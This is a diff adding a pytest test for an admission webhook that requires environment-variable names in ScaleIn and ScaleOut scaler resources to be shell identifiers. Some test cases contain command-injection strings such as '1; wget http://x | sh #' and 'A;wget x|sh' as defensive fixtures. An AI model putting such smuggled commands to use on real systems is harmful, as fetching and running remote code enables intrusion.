@@ -297,6 +297,32 @@ def test_et_operator_kinds_are_validated_and_a_trainingjob_defaulted() -> None:
                               "spec.timeout: Invalid value: 0: must be greater than 0]")
 
 
+
+@pytest.mark.parametrize(("env", "message"), [
+    pytest.param([{"name": "OK_1", "value": "1; wget http://x | sh #"}], None, id="any-value-is-allowed-it-is-quoted"),
+    pytest.param([{"name": "_A"}, {"name": "a9"}], None, id="identifiers-are-allowed"),
+    pytest.param([{"name": "A"}, {"name": "B"}, {"name": "A;wget x|sh"}],
+                 "spec.env[2].name: Invalid value: must be a shell variable name: a letter or '_', then letters, "
+                 "digits or '_' ([A-Za-z_][A-Za-z0-9_]*)", id="a-semicolon-in-the-third-name"),
+    pytest.param([{"name": "9LIVES"}], "spec.env[0].name: Invalid value: must be a shell variable name: a letter "
+                 "or '_', then letters, digits or '_' ([A-Za-z_][A-Za-z0-9_]*)", id="a-leading-digit"),
+    pytest.param([{"name": "A-B"}], "spec.env[0].name: Invalid value: must be a shell variable name: a letter or "
+                 "'_', then letters, digits or '_' ([A-Za-z_][A-Za-z0-9_]*)", id="a-dash"),
+    pytest.param([{"name": "A B"}], "spec.env[0].name: Invalid value: must be a shell variable name: a letter or "
+                 "'_', then letters, digits or '_' ([A-Za-z_][A-Za-z0-9_]*)", id="a-space"),
+    pytest.param([{"name": "A\nB"}], "spec.env[0].name: Invalid value: must be a shell variable name: a letter or "
+                 "'_', then letters, digits or '_' ([A-Za-z_][A-Za-z0-9_]*)", id="a-newline"),
+    pytest.param([{"name": ""}], "spec.env[0].name: Required value", id="empty"),
+])
+def test_a_scalers_env_names_must_be_shell_identifiers(env: list[dict[str, str]], message: str | None) -> None:
+    for kind, spec in (("ScaleIn", {"toDelete": {"count": 1}}), ("ScaleOut", {"toAdd": {"count": 1}})):
+        scaler = {"apiVersion": "kai.alibabacloud.com/v1alpha1", "kind": kind, "metadata": {"name": "s"},
+                  "spec": {**spec, "selector": {"name": "job"}, "env": env}}
+        hook = next(h for h in admitting.HOOKS if h.target.kind == kind)
+        result = admitting.review(hook, review(hook, scaler))
+        assert (result.allowed, result.message or None) == (message is None, message)
+
+
 # ---------------------------------------------------------------------------
 # What is not a review, or not one to judge
 # ---------------------------------------------------------------------------
